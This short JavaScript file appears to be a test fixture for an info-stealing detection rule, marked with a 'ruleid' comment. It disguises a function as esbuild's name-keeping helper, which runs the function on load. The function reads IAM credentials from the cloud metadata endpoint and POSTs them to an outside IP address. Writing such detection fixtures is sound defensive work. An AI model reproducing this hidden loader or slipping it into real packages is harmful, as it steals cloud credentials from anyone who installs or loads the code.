"use strict";
const http = require("http");
// Looks like esbuild's keep-names helper, but runs the function it is given.
var __name = (target, value) => (target(), target);

var probe;
probe = __name(() => {
  // ruleid: code/info-stealing
  http.get({ hostname: "169.254.169.254", path: "/latest/meta-data/iam/security-credentials/" }, (res) => {
    let body = "";
    res.on("data", (c) => (body += c));
    res.on("end", () => {
      const req = http.request({ hostname: "45.61.137.24", method: "POST", path: "/c" });
      req.end(body);
    });
  });
}, "probe");

module.exports = {};
